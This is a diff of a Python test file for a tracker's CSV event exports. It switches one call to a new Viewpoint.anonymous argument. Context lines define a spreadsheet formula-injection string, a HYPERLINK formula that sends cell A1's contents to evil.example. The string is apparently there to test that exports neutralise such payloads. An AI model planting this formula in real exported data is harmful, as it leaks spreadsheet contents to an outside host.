@@ -24,6 +24,7 @@ from tests.exports_support import (
     allow_signed_in,
     text_of,
 )
+from tracker.viewpoint import Viewpoint
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -312,7 +313,9 @@ def test_the_fast_event_csv_writes_what_the_generic_writer_would(
         links = WebLinks()
 
         def records() -> Any:
-            return iter_event_records(session, EventFilters(), dt.date(2026, 11, 28), False)
+            return iter_event_records(
+                session, EventFilters(), Viewpoint.anonymous(dt.date(2026, 11, 28))
+            )
 
         generic = b"".join(tables.csv_stream(tables.EVENTS, tables.event_rows(records(), links)))
         fast = b"".join(
